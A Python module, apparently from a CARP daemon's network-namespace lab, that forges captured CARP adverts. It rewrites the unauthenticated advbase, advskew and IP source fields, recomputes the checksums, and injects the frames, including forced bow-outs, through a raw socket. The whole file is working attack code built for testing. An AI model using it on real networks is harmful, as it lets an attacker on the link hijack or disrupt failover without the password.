"""What anyone on the link can do to CARP without the password: replay a captured advert.

CARP's HMAC covers the vhid, the VIP and the 64-bit counter, but not advbase, advskew or the IP
source.  :func:`forge` takes an advert captured on the bridge (:class:`netns.CarpFrame`), changes
those unauthenticated fields and recomputes both checksums (the CARP checksum covers advbase and
advskew); the digest and the counter stay, so the result still authenticates.
:class:`Injector` sends frames from a node namespace through a raw ``AF_PACKET`` socket, as an
attacker plugged into the same switch would.
"""

from __future__ import annotations

import socket
import struct
from ipaddress import IPv4Address
from types import TracebackType

from carpd.core import wire
from lab.netns import CarpFrame, Node, in_netns

_ETH_HEADER_LEN = 14
_IP_CHECKSUM = slice(10, 12)
_IP_SOURCE = slice(12, 16)
_CARP_ADVSKEW = 2
_CARP_ADVBASE = 5
_CARP_CHECKSUM = slice(6, 8)


def _with_checksum(header: bytearray, where: slice) -> bytes:
    header[where] = b"\0\0"
    header[where] = struct.pack("!H", wire.internet_checksum(bytes(header)))
    return bytes(header)


def forge(
    original: CarpFrame,
    *,
    eth_src: bytes,
    source: IPv4Address | None = None,
    advbase: int | None = None,
    advskew: int | None = None,
) -> bytes:
    """The Ethernet frame of ``original`` re-sent from ``eth_src``, with the IP source, advbase
    and advskew replaced where given, and valid IP and CARP checksums."""
    packet = original.packet
    ihl = (packet[0] & 0x0F) * 4
    ip = bytearray(packet[:ihl])
    if source is not None:
        ip[_IP_SOURCE] = source.packed
    carp = bytearray(packet[ihl : ihl + wire.CARP_HEADER_LEN])
    if advbase is not None:
        carp[_CARP_ADVBASE] = advbase
    if advskew is not None:
        carp[_CARP_ADVSKEW] = advskew
    forged = _with_checksum(ip, _IP_CHECKSUM) + _with_checksum(carp, _CARP_CHECKSUM)
    return original.eth_dst + eth_src + struct.pack("!H", wire.ETH_P_IP) + forged


def bow_out(original: CarpFrame, eth_src: bytes, source: IPv4Address | None = None) -> bytes:
    """``original`` turned into a bow-out (advbase 255, advskew 255)."""
    return forge(original, eth_src=eth_src, source=source, advbase=wire.BOW_OUT,
                 advskew=wire.BOW_OUT)


class Injector:
    """A raw socket on ``node``'s eth0 that sends whole Ethernet frames as given."""

    def __init__(self, node: Node, interface: str = "eth0") -> None:
        self.node = node
        with in_netns(node.ns):
            self._sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)
        try:
            self._sock.bind((interface, 0))
        except OSError:
            self._sock.close()
            raise

    def send(self, frame: bytes) -> None:
        if len(frame) < _ETH_HEADER_LEN + wire.IP_HEADER_LEN:
            raise ValueError("not an Ethernet frame carrying IPv4")
        self._sock.send(frame)

    def close(self) -> None:
        self._sock.close()

    def __enter__(self) -> Injector:
        return self

    def __exit__(
        self,
        kind: type[BaseException] | None,
        error: BaseException | None,
        traceback: TracebackType | None,
    ) -> None:
        self.close()
